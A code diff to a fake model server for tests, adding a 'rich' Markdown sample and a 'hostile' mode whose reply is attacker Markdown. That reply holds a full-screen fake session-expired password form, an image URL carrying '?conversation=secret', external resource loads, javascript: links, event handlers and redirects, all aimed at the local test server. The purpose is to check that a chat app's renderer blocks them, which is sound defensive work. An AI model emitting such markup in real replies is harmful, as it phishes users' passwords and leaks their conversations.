@@ -19,6 +19,11 @@ the model name in the request:
     context400        answers 400 "maximum context length is 512 tokens", as llama.cpp's server does
     page              answers with a web page in an ```html block, whose script tries to reach its parent page,
                       storage, cookies and this server's /leak (for the sandboxed preview)
+    hostile           answers with an attacker's Markdown: a full-page overlay form asking for a password, external
+                      pictures of every kind (Markdown image, img, srcset, poster, CSS url(), SVG image…),
+                      frames, a meta refresh, script links and handlers, all pointing at this server's /hostile/…;
+                      and a page in an ```html block that tries to navigate to /hostile/… (for arena.render)
+    rich              answers with Markdown a chat app shows well: a heading, a wide table, LaTeX, code, a list
 
 Every request is kept in ``server.requests`` (path, headers, parsed body) so tests can check what was sent.
 """
@@ -70,7 +75,69 @@ fetch("LOOPBACK/leak").then(() => seen.push("fetch:open"), () => seen.push("fetc
 """
 
 
+HOSTILE = """Your session has expired.
+
+<div style="position:fixed;inset:0;z-index:99999;background:white" id="overlay">
+<form action="LOOPBACK/hostile/form" method="post"><h2>Session expired</h2>
+<input type="password" name="password" placeholder="password"><button type="submit">Log in</button></form></div>
+
+![chart](LOOPBACK/hostile/md-image?conversation=secret)
+
+<img src="LOOPBACK/hostile/img" onerror="document.title='pwned'">
+<img srcset="LOOPBACK/hostile/srcset 2x">
+<picture><source srcset="LOOPBACK/hostile/source"><img alt="p"></picture>
+<video poster="LOOPBACK/hostile/poster" src="LOOPBACK/hostile/video"></video>
+<audio src="LOOPBACK/hostile/audio" autoplay></audio>
+<p style="background:url(LOOPBACK/hostile/css-url)">styled</p>
+<style>@import url(LOOPBACK/hostile/import); body { background: url(LOOPBACK/hostile/style-element); }</style>
+<svg><image href="LOOPBACK/hostile/svg-image"/></svg>
+<link rel="stylesheet" href="LOOPBACK/hostile/link"><link rel="prefetch" href="LOOPBACK/hostile/prefetch">
+<meta http-equiv="refresh" content="0;url=LOOPBACK/hostile/refresh">
+<iframe src="LOOPBACK/hostile/iframe"></iframe><object data="LOOPBACK/hostile/object"></object>
+<embed src="LOOPBACK/hostile/embed"><input type="image" src="LOOPBACK/hostile/input-image">
+<table background="LOOPBACK/hostile/table-bg"><tr><td>cell</td></tr></table>
+
+[click me](javascript:alert(1)) <a href="javascript:alert(2)">me too</a> <b onmouseover="alert(3)">hover</b>
+
+| model | score |
+|---|---:|
+| a | 1 |
+
+And $e^{i\\pi}+1=0$.
+
+```html
+<!doctype html><html><head><meta http-equiv="refresh" content="0;url=LOOPBACK/hostile/page-refresh"></head>
+<body><script>location.href = "LOOPBACK/hostile/page-location";</script></body></html>
+```
+"""
+
+
+RICH = """## Results
+
+Speed and quality of three approaches, with *Euler's identity* $e^{i\\pi}+1=0$ for good measure:
+
+| approach | tokens per second | quality score (higher is better) | notes on the run, which are rather long |
+|---|---:|---:|---|
+| greedy | 41.2 | 7.5 | deterministic_and_repeatable_every_single_time |
+| sampling | 39.8 | 8.1 | varied |
+
+$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$
+
+```python
+def mean(values):
+    return sum(values) / len(values)
+```
+
+- a list item with a very long token: https://example.org/a/very/long/path/that/does/not/break/nicely/at/all
+- and a [link](https://example.org/docs)
+"""
+
+
 def answer_words(model: str, body: dict, url: str = "") -> list[str]:
+    if model.startswith("rich"):
+        return [line + "\n" for line in RICH.split("\n")]
+    if model.startswith("hostile"):
+        return [line + "\n" for line in HOSTILE.replace("LOOPBACK", url).split("\n")]
     if model.startswith("page"):
         return [line + "\n" for line in PAGE.replace("LOOPBACK", url).split("\n")]
     if model.startswith("refuse"):
